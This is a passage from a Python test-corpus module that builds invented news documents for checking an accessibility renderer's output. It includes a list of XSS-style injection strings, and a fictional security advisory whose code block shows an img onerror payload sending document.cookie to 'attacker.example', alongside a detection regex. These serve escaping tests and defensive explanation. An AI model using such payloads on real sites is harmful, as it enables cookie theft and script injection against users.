"""The document corpus the test suite checks every renderer with.

``corpus()`` returns realistic news documents keyed by slug. Together they use
every node type and field of the model; each builder function says in its
docstring what it exercises. Everything is deterministic: no randomness and no
dates from the clock, so golden files made from the corpus stay stable.

The articles, people, organisations and sites are invented (URLs use the
reserved ``.example`` and ``example.com`` domains).

``python tests/corpus.py`` rewrites ``examples/documents/<slug>.json`` (every
document except ``long-2000``), the runnable inputs for the CLI::

    a11yrender render examples/documents/kitchen-sink.json --to html
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from functools import cache
from pathlib import Path
from types import MappingProxyType
from typing import Literal

from a11yrender.builder import (
    abbr,
    aside,
    br,
    code,
    codeblock,
    doc,
    em,
    figure,
    h,
    inlines,
    li,
    link,
    media,
    note,
    ol,
    p,
    q,
    quote,
    region,
    separator,
    span,
    strong,
    table,
    time,
    ul,
)
from a11yrender.model import (
    Aside,
    Block,
    Document,
    Heading,
    Inline,
    Link,
    Media,
    Metadata,
    Paragraph,
    Quote,
    Span,
    Table,
    TableCell,
    TableRow,
)

__all__ = [
    "DOCUMENTS_DIR",
    "EXAMPLES_DIR",
    "HOSTILE_STRINGS",
    "JSON_EXCLUDED",
    "corpus",
    "example_article",
    "write_examples",
]

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES_DIR = ROOT / "examples"
DOCUMENTS_DIR = EXAMPLES_DIR / "documents"

#: Corpus documents that are not written to ``examples/documents`` (too big to review).
JSON_EXCLUDED = frozenset({"long-2000"})

#: Strings that try to break out of text into markup or script; the
#: ``hostile-strings`` document puts them in every kind of field.
HOSTILE_STRINGS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "&amp;",
    "]]>",
    "<!--",
    "\u202e",
)


def example_article() -> Path:
    """The saved news page the project started from (page chrome included)."""
    return EXAMPLES_DIR / "japan-north-korea-talks.txt"


# --------------------------------------------------------------------------
# Small helpers for what the builder does not cover
# --------------------------------------------------------------------------

Scope = Literal["col", "row", "colgroup", "rowgroup"]


def th(*parts: str | Inline, scope: Scope | None = None, colspan: int = 1,
       rowspan: int = 1) -> TableCell:
    """A header cell; leave ``scope`` out to have renderers infer it."""
    return TableCell(inlines(*parts), header=True, scope=scope, colspan=colspan,
                     rowspan=rowspan)


def td(*parts: str | Inline, colspan: int = 1, rowspan: int = 1) -> TableCell:
    """A data cell (no parts: an empty cell)."""
    return TableCell(inlines(*parts), colspan=colspan, rowspan=rowspan)


def tr(*cells: TableCell) -> TableRow:
    return TableRow(cells)


def lang_span(lang: str, *parts: str | Inline) -> Span:
    return span(lang, *parts)


def lang_q(lang: str, *parts: str | Inline, cite: str | None = None) -> Quote:
    """An inline quotation in another language."""
    return Quote(inlines(*parts), cite=cite, lang=lang)


def hid(level: int, *parts: str | Inline, id: str | None = None,
        lang: str | None = None) -> Heading:
    """A heading with an optional id and language."""
    return Heading(level, inlines(*parts), id=id, lang=lang)


# --------------------------------------------------------------------------
# The documents
# --------------------------------------------------------------------------

COURIER = "https://www.riversidecourier.example"


def kitchen_sink() -> Document:
    """Every block and inline type, every region role, every metadata field.

    Regions: a banner with content, two navigations (Sections, Breadcrumb), a
    notice, two complementary regions (Most read, Related coverage) and a
    contentinfo. Metadata: kicker, standfirst with inlines, three bylines,
    dateline, published (+01:00) and updated (Z), site name and URL.
    """
    meta = Metadata(
        title="Council backs £48m tidal barrier after seven-hour debate",
        language="en-GB",
        direction="ltr",
        kicker="Breaking News",
        standfirst=inlines(
            "Councillors voted 31 to 19 for a barrier at ", em("Millbrook Reach"),
            ", ending ", strong("ten years"), " of argument over how to protect the lower town.",
        ),
        bylines=(
            "Priya Raman, Environment Correspondent",
            "Tomás Ó Briain",
            "Data analysis by Helen Achterberg",
        ),
        dateline="RIVERSIDE",
        published="2024-06-14T07:30:00+01:00",
        updated="2024-06-14T15:05:00Z",
        site_name="The Riverside Courier",
        url=f"{COURIER}/news/2024/06/14/tidal-barrier-vote",
    )
    body: tuple[Block, ...] = (
        p("Councillors voted shortly before midnight on ",
          time("Thursday", "2024-06-13T23:40:00+01:00"),
          " to build a tidal barrier across the river at Millbrook Reach, after a ",
          link("/news/2024/06/13/barrier-debate-live", "seven-hour debate"),
          " in which almost every member of the chamber spoke."),
        p("The ", abbr("EA", "Environment Agency"),
          " has promised to meet two-thirds of the cost. The rest will come from the city's "
          "own reserves and a levy on new riverside developments, which builders' groups "
          "say they will challenge."),
        hid(2, "How the council voted", id="the-vote"),
        Table(
            caption=inlines("Votes on the barrier motion, by party"),
            head=(tr(th("Party", scope="col"), th("For", scope="col"),
                     th("Against", scope="col"), th("Abstained", scope="col")),),
            body=(
                tr(th("Labour", scope="row"), td("21"), td("4"), td("1")),
                tr(th("Liberal Democrats", scope="row"), td("7"), td("6"), td("0")),
                tr(th("Conservative", scope="row"), td("1"), td("8"), td("1")),
                tr(th("Green", scope="row"), td("2"), td("1"), td("0")),
            ),
            foot=(tr(th("Total", scope="row"), td("31"), td("19"), td("2")),),
            id="vote-table",
        ),
        hid(2, "What the barrier will do", id="what-it-does"),
        p("The council's chief engineer, Dr Amara Osei, told members the four steel gates "
          "would ", q("hold back a surge of the kind we expect once in two hundred years"),
          " and could be closed in under half an hour."),
        figure(
            "https://images.riversidecourier.example/2024/06/barrier-render.jpg",
            "Artist's impression of a grey steel barrier with four gates spanning the river "
            "between two brick embankments",
            caption="How the barrier would look from Millbrook Bridge at low tide.",
            credit="Illustration: Riverside City Council",
            width=1200,
            height=675,
        ),
        ul(
            "Four gates, each 20 metres wide",
            ["Closes in under 30 minutes, ", em("before"), " the surge peak"],
            ["Due to be working by ", time("2028", "2028")],
        ),
        quote(
            "This is the most important decision this chamber has taken in a generation. "
            "The water will not wait for us to agree.",
            by="Cllr Janet Okafor, leader of the council",
        ),
        separator(),
        hid(3, "Opposition and the twin town", id="opposition"),
        p("Opponents said the money would be better spent on raising homes and restoring the "
          "marshes downstream. The mayor of Saint-Aubin-sur-Rive, the town's twin in "
          "Normandy, wrote to wish the project well: ",
          lang_q("fr", "nos deux villes vivent au rythme du même fleuve"),
          " (", em("our two towns live by the rhythm of the same river"), "). Both towns "
          "carry the same Latin motto, ", lang_span("la", "flumen nos servat"),
          ": the river keeps us."),
        p("Written objections to the planning application can be sent until ",
          time("12 July", "2024-07-12"), " to:", br(),
          "Planning Services", br(), "Riverside City Council", br(), "1 Guildhall Square",
          br(), "Riverside RV1 1AA"),
        p("Engineers will publish river levels from the barrier as an open-data feed at ",
          code("/api/v2/levels?station=millbrook"), ". A reading looks like this:"),
        codeblock('{"station": "millbrook", "level_m": 3.42, "trend": "rising",\n'
                  ' "observed": "2024-06-14T06:15:00Z"}', "json"),
        hid(3, "What happens next", id="next"),
        ol(
            "A public consultation on the design opens in July.",
            "A planning application goes to the regional panel in the autumn.",
            ["Construction starts in ", time("spring 2026", "2026-03"),
             " if the panel approves."],
        ),
        Aside(
            "Key numbers",
            (ul("£48m total cost", "£32m from the Environment Agency",
                "1,900 homes in the flood zone"),),
            kind="aside",
            id="key-numbers",
        ),
        media(
            "video",
            "https://media.riversidecourier.example/video/barrier-explainer.mp4",
            "Explainer: how a tidal barrier works",
            p("Narrator: When a surge tide is forecast, the gates rise from the river bed."),
            p("Narrator: Once the tide turns, they lower again and ships can pass."),
            captions="https://media.riversidecourier.example/video/barrier-explainer.en.vtt",
        ),
        note(
            "Correction",
            "An earlier version of this article gave the barrier's cost as £84m. It is £48m.",
        ),
    )
    regions = (
        region("banner",
               p(strong("The Riverside Courier"), " · ", link("/subscribe", "Subscribe")),
               label="Site header"),
        region("navigation",
               ul(link("/news", "News"), link("/news/environment", "Environment"),
                  link("/sport", "Sport"), link("/opinion", "Opinion")),
               label="Sections"),
        region("navigation",
               ol(link("/", "Home"), link("/news", "News"),
                  link("/news/environment", "Environment")),
               label="Breadcrumb"),
        region("notice",
               p(strong("Flood warning:"), " in force for the lower town until ",
                 time("6pm today", "2024-06-14T18:00:00+01:00"), ". ",
                 link("https://flood-warnings.example/riverside", "Check your street")),
               label="Flood warning"),
        region("complementary",
               ol(link("/news/2024/06/13/barrier-debate-live", "Live: the barrier debate"),
                  link("/sport/2024/06/14/rowing", "Rowing club takes the regional title"),
                  link("/news/2024/06/12/bridge", "Bridge reopens after repairs")),
               label="Most read"),
        region("complementary",
               ul(link("/news/2023/11/02/floods", "The November floods, one year on"),
                  link("/opinion/2024/06/10/marshes", "Why the marshes matter")),
               label="Related coverage"),
        region("contentinfo",
               p("© 2024 Riverside Courier Ltd. ",
                 link("mailto:newsdesk@riversidecourier.example", "Email the newsdesk"),
                 " or call ", link("tel:+44-20-7946-0958", "020 7946 0958"), "."),
               p("Riverside Courier Ltd", br(), "12 Quay Street", br(), "Riverside RV1 2AB")),
    )
    return Document(meta, body, regions)


def minimal() -> Document:
    """The smallest ordinary article: a title and one paragraph, no metadata."""
    return doc(
        "Millbrook Bridge reopens after repairs",
        "Millbrook Bridge reopened to traffic on Monday morning, three weeks ahead of "
        "schedule, after engineers replaced corroded bearings under its central span.",
    )


def standfirst_only() -> Document:
    """An article with a standfirst and no body (a news brief)."""
    return doc(
        "Markets close higher as energy shares rally",
        standfirst=("Shares in oil and gas producers led a broad rise on ",
                    time("Friday", "2024-10-04"),
                    ", while the pound slipped against the dollar."),
        kicker="Markets",
        site_name="The Riverside Courier",
    )


def nested_lists() -> Document:
    """Nested lists: three levels, mixed ordered and unordered, an ordered list
    starting at 5, items holding several blocks."""
    return doc(
        "Your guide to the new bin collection rules",
        "From next month every household will have four containers instead of two. "
        "Here is what goes in each, and what you need to do before the switch.",
        h(2, "What goes where"),
        ul(
            li(strong("Blue bin"), ": dry recycling, collected every two weeks",
               ul(
                   li("Paper and card",
                      ul("Newspapers and magazines", "Cardboard boxes, flattened",
                         "Envelopes, including ones with windows")),
                   li("Plastics",
                      ol("Rinse bottles, pots and tubs", "Squash them flat",
                         "Put the lids back on")),
                   li("Tins and cans"),
               )),
            li(strong("Green bin"), ": garden waste",
               p("Collected every two weeks from March to November. The service costs "
                 "£45 a year and you must sign up for it."),
               ul("Grass cuttings and leaves", "Hedge trimmings", "Small branches")),
            li(strong("Food caddy"), ": all cooked and raw food, collected weekly",
               ol(li("Line the caddy with a compostable bag",
                     ul("Newspaper works too", "Plastic bags do not")),
                  "Tie the bag and put it in the outdoor caddy",
                  "Leave the caddy at the kerb by 7am")),
            li(strong("Black bin"), ": whatever cannot be recycled"),
        ),
        h(2, "Steps five to nine of the switchover"),
        p("Steps one to four, about registering for the new service, were in last week's "
          "guide. The rest follow."),
        ol(
            li(p("Collect your new food caddy from a library or the civic centre."),
               p("Bring proof of address. Caddies will not be delivered.")),
            li(p("Put out your old blue box for the last time."),
               p("Crews will take the box away after its final collection."),
               ul("Remove any stickers first", "Leave it upside down if it is empty")),
            li(p("Check your new collection day."),
               p("It may have changed. Enter your postcode on the council's website.")),
            "Sign up for the garden waste service if you want it.",
            li(p("Report a missed collection within two working days."),
               ol("Online", "By phone", "At a council office")),
            start=5,
        ),
        kicker="Explainer",
        bylines=["Dev Malhotra"],
        published="2024-02-19T06:00:00Z",
        site_name="The Riverside Courier",
    )


def election_tables() -> Document:
    """Tables: simple column headers with a tfoot; row headers; header cells
    without an explicit scope (renderers infer col and row)."""
    results = Table(
        caption=inlines("First-preference votes in the mayoral election"),
        head=(tr(th("Candidate", scope="col"), th("Party", scope="col"),
                 th("Votes", scope="col"), th("Share", scope="col")),),
        body=(
            tr(td("Rosa Delgado"), td("Independent"), td("24,118"), td("38.2%")),
            tr(td("Graham Pike"), td("Conservative"), td("22,907"), td("36.3%")),
            tr(td("Nia Edwards"), td("Labour"), td("11,650"), td("18.5%")),
            tr(td("Felix Ambrose"), td("Green"), td("4,431"), td("7.0%")),
        ),
        foot=(tr(td("Total valid votes"), td(), td("63,106"), td("100%")),),
    )
    turnout = table(
        "Turnout by ward",
        head=[["Ward", "Registered voters", "Turnout"]],
        rows=[
            ["Harbourside", "14,220", "41%"],
            ["Old Town", "11,804", "47%"],
            ["Northgate", "16,935", "33%"],
            ["Millbrook", "9,612", "52%"],
        ],
        row_headers=True,
    )
    seats = Table(
        caption=inlines("Council seats before and after the election"),
        head=(tr(th("Party"), th("Before"), th("After"), th("Change")),),
        body=(
            tr(th("Independent"), td("3"), td("9"), td("+6")),
            tr(th("Conservative"), td("18"), td("15"), td("−3")),
            tr(th("Labour"), td("16"), td("14"), td("−2")),
            tr(th("Green"), td("2"), td("1"), td("−1")),
        ),
    )
    return doc(
        "Harbourside mayoral race goes to second count",
        "No candidate won more than half of the first-preference votes, so the two "
        "leaders go through to a count of second preferences on Saturday.",
        results,
        h(2, "Where people voted"),
        "Turnout was highest in Millbrook, where the future of the flood barrier dominated "
        "the campaign, and lowest in Northgate.",
        turnout,
        h(2, "The council"),
        "Independent candidates took six seats from the established parties in the "
        "council elections held on the same day.",
        seats,
        kicker="Election 2024",
        bylines=["Ruth Abernethy", "Kwame Boateng"],
        dateline="HARBOURSIDE",
        published="2024-05-03T04:12:00+01:00",
        updated="2024-05-03T11:40:00+01:00",
        site_name="The Riverside Courier",
    )


def timetable_spans() -> Document:
    """Tables with colspan and rowspan (well formed: every row group rectangular,
    no rowspan past its group, every column has a cell starting in it), a tfoot
    with a full-width cell, and a table without a caption."""
    buses = Table(
        caption=inlines("Replacement buses, Riverside to Harbourside"),
        head=(
            tr(th("Direction", scope="col", rowspan=2), th("Service", scope="col", rowspan=2),
               th("Saturday", scope="colgroup", colspan=2),
               th("Sunday", scope="colgroup", colspan=2)),
            tr(th("First bus", scope="col"), th("Last bus", scope="col"),
               th("First bus", scope="col"), th("Last bus", scope="col")),
        ),
        body=(
            tr(th("Eastbound", scope="rowgroup", rowspan=2), th("R1 fast", scope="row"),
               td("06:10"), td("23:40"), td("07:30"), td("22:50")),
            tr(th("R2 stopping", scope="row"), td("05:55"), td("23:10"), td("07:15"),
               td("22:20")),
            tr(th("Westbound", scope="rowgroup", rowspan=2), th("R1 fast", scope="row"),
               td("06:40"), td("00:10"), td("08:00"), td("23:20")),
            tr(th("R2 stopping", scope="row"), td("06:25"), td("23:45"), td("07:45"),
               td("22:55")),
            tr(th("Night", scope="row"), th("N1", scope="row"),
               td("No service; taxis can be booked free of charge", colspan=4)),
        ),
        foot=(tr(td("Times are approximate and depend on road traffic.", colspan=6)),),
        id="bus-times",
    )
    tickets = Table(
        head=(tr(th("Ticket", scope="col"), th("Valid on buses?", scope="col")),),
        body=(
            tr(th("Season ticket", scope="row"), td("Yes")),
            tr(th("Day return", scope="row"), td("Yes")),
            tr(th("Advance, for a named train", scope="row"),
               td("Yes, on any bus that day")),
        ),
    )
    return doc(
        "Weekend rail closure: replacement bus times",
        "No trains will run between Riverside and Harbourside this weekend while the line "
        "is resignalled. Buses replace them from the station forecourts.",
        buses,
        h(2, "Tickets"),
        "All rail tickets for the route are accepted on the buses.",
        tickets,
        kicker="Travel",
        published="2024-09-20T12:00:00+01:00",
        site_name="The Riverside Courier",
    )


def photo_essay() -> Document:
    """Figures: caption and credit, caption only, no caption, a decorative image,
    width and height given and left out, relative and absolute sources."""
    return doc(
        "A summer on the shrinking Aletschfirn",
        "Our photographer spent three months with the glaciologists who measure the ice "
        "every week from June to September.",
        figure(
            "https://images.riversidecourier.example/2024/09/glacier-camp.jpg",
            "Three orange tents on a rocky ridge above a wide tongue of grey ice",
            caption="The research camp sits on a moraine that was under ice in 1990.",
            credit="Photograph: Lena Brunner",
            width=1600,
            height=1067,
        ),
        "Each morning the team walks out to a grid of forty aluminium stakes drilled into "
        "the ice and reads how much of each stake is now exposed.",
        figure(
            "/images/2024/09/stake-reading.jpg",
            "A researcher in a red jacket kneels beside a metal stake and holds a tape "
            "measure against it",
            caption="Stake 17 lost 4.2 metres of ice over the summer.",
        ),
        figure(
            "/images/2024/09/meltwater.jpg",
            "Meltwater pouring into a deep blue hole in the glacier surface",
            width=1200,
            height=800,
        ),
        figure("/images/ornaments/divider-mountains.svg", decorative=True),
        "By September the glacier's surface had dropped by an average of 3.1 metres, the "
        "second-largest loss in the record.",
        kicker="Photo essay",
        bylines=["Lena Brunner"],
        dateline="FIESCH, Switzerland",
        published="2024-09-28T08:00:00+02:00",
        site_name="The Riverside Courier",
    )


def quotes_testimony() -> Document:
    """Block quotes with and without attribution, a quote nested in a quote,
    inline quotes with and without cite, and a French quote (lang fr) in an
    English article."""
    return doc(
        "Firefighters from both sides of the border fought mill blaze",
        "Crews from three French and two Belgian stations worked through the night to stop "
        "the fire at the old textile mill from spreading to neighbouring homes.",
        p("Residents were woken shortly after 2am. One neighbour said she saw ",
          q("sparks rising higher than the church tower"),
          " before the roof fell in."),
        quote(
            "We heard the first crash and ran outside in our pyjamas. By the time the "
            "engines arrived the whole top floor was alight.",
            by="Hélène Vasseur, who lives opposite the mill",
        ),
        p("The French commander, Capitaine Marc Lefèvre, told reporters: ",
          lang_q("fr", "Nous avons fait tout ce que nous pouvions pour sauver le bâtiment, "
                 "mais la priorité, c'était les habitants.",
                 cite="https://presse-sdis.example/communiques/incendie-filature"),
          " That is: the crews did all they could to save the building, but residents came "
          "first."),
        "A retired mill worker read out a note that had hung by the clocking-in machine "
        "for decades:",
        quote(
            "Every shift I think of the notice my father pinned up in 1962:",
            quote("Mind the looms, mind each other, and leave nothing burning when you go "
                  "home.",
                  by="The mill manager's notice, 1962"),
            "We always did.",
            by="Albert Desmet, who worked at the mill for 31 years",
        ),
        quote("Nobody was hurt. That is what matters tonight."),
        p("The regional prefect said an inquiry would look at why the building's sprinklers "
          "had been switched off, calling the finding ",
          q("deeply troubling", cite="https://prefecture.example/communiques/filature"),
          "."),
        kicker="Europe",
        bylines=["Claire Dubois"],
        dateline="ROUBAIX, France",
        published="2024-01-22T09:45:00+01:00",
        site_name="The Riverside Courier",
    )


_LONG_LINE = (
    "curl -s 'https://cdn.commentwidget.example/v3/embed.js?site=riverside&theme=light"
    "&lazy=true&locale=en-GB&fallback=https%3A%2F%2Fcdn2.commentwidget.example%2Fv3%2Fembed.js"
    "&integrity=sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC'"
    " | sha384sum --check --strict --status && echo 'widget matches the published hash'"
)


def security_advisory() -> Document:
    """Code blocks with very long lines, HTML and script content and several
    syntaxes; inline code; a block without syntax."""
    return doc(
        "Flaw in popular comment widget let attackers run scripts on news sites",
        p("A bug in ", strong("CommentWidget"), ", used by hundreds of publishers to host "
          "reader comments, allowed anyone to post a comment that ran code in other readers' "
          "browsers. The maker fixed it in version ", code("3.8.2"), " on Tuesday."),
        p("Researchers found that the widget removed ", code("<script>"),
          " tags from comments but left event-handler attributes such as ", code("onerror"),
          " in place. A comment like the one below would run as soon as it was displayed:"),
        codeblock('<img src="x" onerror="fetch(\'https://attacker.example/steal?c=\' + '
                  'document.cookie)">\n<script>alert("this one was blocked")</script>',
                  "html"),
        p("Sites that load the widget from its public CDN received the fix automatically. "
          "Publishers who host a copy themselves should check the file against the published "
          "hash, for example:"),
        codeblock(_LONG_LINE, "shell"),
        p("The company also published a script that searches a site's stored comments for "
          "the attack pattern:"),
        codeblock(
            "import re\n\n"
            "PATTERN = re.compile(r\"<[a-z]+[^>]*\\son[a-z]+\\s*=\", re.IGNORECASE)\n\n\n"
            "def suspicious(comments):\n"
            "    \"\"\"Yield the ids of comments whose HTML carries an event handler.\"\"\"\n"
            "    for comment in comments:\n"
            "        if PATTERN.search(comment.html):  # e.g. <img onerror=...>\n"
            "            yield comment.id\n",
            "python",
        ),
        p("Output from the script lists one comment id per line:"),
        codeblock("4471203\n4471388\n   4472010   \t(flagged twice)\n"),
        h(2, "What readers should do"),
        p("Readers do not need to do anything. Security researcher Ines Kowalczyk said the "
          "bug showed why sites should send a ", code("Content-Security-Policy"),
          " header, which blocks inline scripts even when a filter misses one."),
        kicker="Technology",
        bylines=["Ines Kowalczyk", "Tom Haverford"],
        published="2024-04-09T14:20:00-04:00",
        updated="2024-04-10T09:00:00-04:00",
        site_name="The Riverside Courier",
    )


def arabic_desalination() -> Document:
    """A right-to-left Arabic article (language ar, direction rtl) with an English
    span, Arabic-Indic digits, a heading, a block quote and a list."""
    return doc(
        "افتتاح محطة لتحلية مياه البحر تزوّد نصف مليون شخص بمياه الشرب",
        p("افتتحت السلطات المحلية يوم ", time("الأحد", "2024-05-12"),
          " محطة جديدة لتحلية مياه البحر، تقول إنها ستنتج نحو ١٥٠ ألف متر مكعب من المياه "
          "العذبة يومياً، أي ما يكفي لتزويد قرابة نصف مليون شخص بمياه الشرب."),
        p("وتعتمد المحطة على تقنية التناضح العكسي، المعروفة بالإنجليزية باسم ",
          lang_span("en", "reverse osmosis"),
          "، إذ يُدفع ماء البحر عبر أغشية دقيقة تحجز الأملاح والشوائب. وتستهلك هذه الطريقة "
          "طاقة أقل بكثير من التقطير الحراري الذي اعتمدت عليه المنطقة لعقود."),
        p("وقال مدير المشروع، المهندس خالد المنصوري، في مؤتمر صحفي إن ثلث الكهرباء التي "
          "تحتاجها المحطة يأتي من حقل للألواح الشمسية أُنشئ بجوارها، مضيفاً أن المرحلة "
          "الثانية من المشروع ستبدأ العام المقبل."),
        h(2, "مخاوف بيئية"),
        p("في المقابل، أبدى باحثون في علوم البحار قلقهم من المياه شديدة الملوحة التي تُعاد "
          "إلى البحر بعد التحلية، والتي قد تضر بالشعاب المرجانية القريبة من نقاط التصريف."),
        quote("نحتاج إلى مراقبة مستمرة لدرجة الملوحة والحرارة قرب أنابيب التصريف، ونشر "
              "النتائج للعموم.",
              by="د. ليلى حداد، باحثة في علوم البحار"),
        p("وتقول الشركة المشغلة إنها ستنشر بيانات المراقبة على موقعها الإلكتروني كل ثلاثة "
          "أشهر، وإن الأنابيب صُممت لتوزيع المياه المالحة على مساحة واسعة لتقليل تركيزها."),
        h(2, "المحطة في أرقام"),
        ul("الطاقة الإنتاجية: ١٥٠ ألف متر مكعب يومياً",
           "عدد المستفيدين: نحو نصف مليون شخص",
           "حصة الطاقة الشمسية: الثلث تقريباً"),
        language="ar",
        direction="rtl",
        kicker="بيئة",
        standfirst="المحطة الجديدة على ساحل البحر الأحمر تعمل جزئياً بالطاقة الشمسية، "
                   "لكن باحثين يحذرون من أثرها على الشعاب المرجانية.",
        bylines=["سارة الحسيني"],
        published="2024-05-12T10:00:00+03:00",
        site_name="الرائد نيوز",
        url="https://alraed.example/ar/environment/desalination-plant",
    )


def japanese_typhoon() -> Document:
    """A Japanese article (language ja, no spaces between words) with an English
    span, Time inlines, a list and a Japanese link text."""
    return doc(
        "台風10号、九州南部に接近　空の便の欠航相次ぐ",
        p("大型で強い台風10号は、", time("28日午後", "2024-08-28T15:00+09:00"),
          "にも九州南部に接近する見込みです。気象庁（",
          lang_span("en", "Japan Meteorological Agency"),
          "）は、暴風や高波、土砂災害に厳重に警戒するよう呼びかけています。"),
        p("鹿児島空港では午前中から欠航が相次ぎ、鉄道も在来線の一部区間で運転を見合わせて"
          "います。高速道路の一部も通行止めとなりました。"),
        h(2, "早めの避難を"),
        p("各自治体は避難所を開設し、高齢者など避難に時間がかかる人に対して、明るいうちに"
          "避難するよう求めています。"),
        ul("飲料水と非常食を三日分用意する", "懐中電灯と携帯ラジオの電池を確認する",
           "窓ガラスの飛散防止対策をする"),
        h(2, "交通への影響"),
        p("航空各社によりますと、", time("29日", "2024-08-29"),
          "も九州を発着する便の多くで欠航が決まっています。最新の運行状況は",
          link("https://sakura-shimbun.example/traffic", "交通情報のまとめ"),
          "で確認してください。"),
        language="ja",
        kicker="気象",
        standfirst="気象庁は暴風や高波、大雨に厳重な警戒を呼びかけています。",
        bylines=["山本葵"],
        dateline="鹿児島",
        published="2024-08-28T06:00:00+09:00",
        updated="2024-08-28T12:30:00+09:00",
        site_name="さくら新聞",
        url="https://sakura-shimbun.example/news/typhoon-10",
    )


def multilingual_signs() -> Document:
    """Right-to-left snippets in an English article: Hebrew and Arabic spans, a
    Hebrew paragraph and a Hebrew heading (lang on blocks)."""
    return doc(
        "New tram line opens with signs in three languages",
        p("Every stop on the extended tram line carries its name in Hebrew, Arabic and "
          "English. At the terminus the sign reads ",
          lang_span("he", "התחנה הבאה: הר הרצל"), " and, below it, ",
          lang_span("ar", "المحطة التالية: جبل هرتسل"), ", or ",
          em("Next stop: Mount Herzl"), "."),
        "Transport officials said the line would cut the journey from the southern "
        "neighbourhoods to the city centre to about twenty minutes.",
        hid(2, "הודעה לנוסעים", lang="he", id="notice-he"),
        p("הקו החדש יחבר את השכונות הדרומיות למרכז העיר בתוך עשרים דקות.", lang="he"),
        p(em("The notice above, posted at every stop, says the new line will link the "
             "southern neighbourhoods to the city centre within twenty minutes.")),
        "Passengers can pay with the same travel card used on buses.",
        kicker="Transport",
        bylines=["Noa Friedman"],
        published="2024-07-01T16:30:00+03:00",
        site_name="The Riverside Courier",
    )


def abbreviations_links() -> Document:
    """Abbreviations with expansions (N. Korea, U.S., UN, IAEA), Time inlines of
    every form, an address with line breaks, links of every allowed kind (https,
    http, mailto, tel, relative, query, fragment #section-2 to a heading id)."""
    return doc(
        "U.S. and N. Korea envoys agree to meet again in Geneva",
        p(abbr("U.S.", "United States"), " and ", abbr("N. Korea", "North Korea"),
          " envoys agreed on ", time("Wednesday", "2024-09-11"),
          " to hold a second round of talks in Geneva, officials from both sides said, "
          "though neither gave a date."),
        p("The two delegations met for almost six hours at the ",
          abbr("UN", "United Nations"), " offices, beginning at ",
          time("9:30 a.m.", "09:30"), " and breaking only for lunch. A ",
          abbr("U.S.", "United States"), " official said the talks had been ",
          q("frank and businesslike"), "."),
        p("Inspectors from the ", abbr("IAEA", "International Atomic Energy Agency"),
          " have not visited the country since ", time("2009", "2009"),
          ". Diplomats said their return was discussed but not agreed. (See ",
          link("#section-2", "what is on the table"), " below.)"),
        hid(2, "Background", id="section-1"),
        p("The last formal talks collapsed in ", time("February 2019", "2019-02"),
          " when a summit in Hanoi ended early. Our ",
          link("https://www.riversidecourier.example/world/asia/korea-talks-timeline",
               "timeline of the talks"),
          " and the ",
          link("http://archive.riversidecourier.example/2019/02/28/hanoi-summit",
               "original 2019 report"),
          " have more background; see also ", link("/world/asia", "all Asia coverage"),
          ", ", link("../briefings/geneva.html", "our Geneva briefing"), " and ",
          link("?page=2", "the next page of this story"), "."),
        hid(2, "What is on the table", id="section-2"),
        p("Diplomats said the agenda included the return of inspectors, a possible easing "
          "of some sanctions, and the fate of families separated since the war. The next "
          "meeting could come as early as ",
          time("the morning of 14 October", "2024-10-14T10:00:00+02:00"), "."),
        h(2, "Contact"),
        p("The press office of the mission can be reached at:", br(),
          "Permanent Mission, Press Office", br(), "Route de Ferney 150", br(),
          "1211 Geneva 2", br(), "Switzerland"),
        p(link("mailto:press@mission-geneva.example?subject=Talks", "Email the press office"),
          " or call ", link("tel:+41-22-555-0142", "+41 22 555 01 42"), "."),
        kicker="Asia",
        bylines=["Daniel Cho"],
        dateline="GENEVA",
        published="2024-09-11T18:05:00+02:00",
        updated="2024-09-12T07:20:00+02:00",
        site_name="The Riverside Courier",
        url="https://www.riversidecourier.example/world/asia/geneva-talks",
    )


def heading_levels() -> Document:
    """Heading levels that skip (h2 then h4, h3 then h6) so renderers must
    re-level; every heading has an id."""
    return doc(
        "Budget 2025: where every pound of council tax goes",
        "The council will spend £612m in the coming year. Here is how it breaks down.",
        hid(2, "Overview", id="overview"),
        "Council tax will rise by 4.99%, the maximum allowed without a referendum.",
        hid(4, "Schools and children", id="schools"),
        "Children's services take the largest share, at £214m, mostly for social care "
        "placements whose cost has doubled in five years.",
        hid(3, "Adult social care", id="adult-care"),
        "Care for older and disabled adults will cost £187m.",
        hid(6, "Home care hours", id="home-care"),
        "The budget pays for 1.4 million hours of care at home.",
        hid(2, "Cuts", id="cuts"),
        "Library opening hours will be reduced at six branches, saving £1.2m.",
        hid(3, "Libraries affected", id="libraries"),
        ul("Northgate", "Millbrook", "Old Town", "Quayside", "Hillcrest", "St Anne's"),
        hid(5, "Mobile library", id="mobile-library"),
        "The mobile library will keep its current timetable.",
        kicker="Budget 2025",
        bylines=["Femi Adeyemi"],
        published="2025-02-20T07:00:00Z",
        site_name="The Riverside Courier",
    )


def asides_notes() -> Document:
    """Asides of kind aside and note, with lists, links and headings inside."""
    return doc(
        "Hospital waiting lists fall for a third month",
        "The number of people waiting for planned treatment at Riverside General fell to "
        "18,240 in March, the third monthly fall in a row.",
        aside("Key figures",
              ul("18,240 people waiting", "412 waiting more than a year",
                 "Median wait: 14 weeks")),
        "Managers credit a new surgical hub that opened in the autumn and now handles most "
        "hip and knee operations.",
        Aside("How we counted",
              (p("Figures come from the trust's monthly return to the health department. "
                 "They count people, not referrals."),
               p(link("https://data.riversidegeneral.example/waiting-lists",
                      "Download the data")),),
              kind="note",
              id="method"),
        h(2, "Cancer targets missed"),
        "The trust still missed its target for starting cancer treatment within 62 days of "
        "referral, reaching 71% against a goal of 85%.",
        aside("Need help?",
              h(3, "Support lines"),
              "Macmillan and local charities run free helplines for people waiting for "
              "cancer treatment.",
              p(link("tel:+44-800-555-0199", "0800 555 0199"), ", open 8am to 8pm.")),
        note("Editor's note",
             "This article was updated to include the trust's response."),
        kicker="Health",
        bylines=["Grace Nwosu"],
        published="2024-04-12T05:00:00+01:00",
        site_name="The Riverside Courier",
    )


def media_transcripts() -> Document:
    """Media: a video with a captions file, a video without captions and an audio
    clip, each with a transcript (speaker names in strong, a heading inside)."""
    return doc(
        "The last lighthouse keepers",
        "Britain's lighthouses were automated in 1998. We met three people who kept the "
        "lights before that, and heard what the job was like.",
        media("video",
              "https://media.riversidecourier.example/video/lighthouse-keepers.mp4",
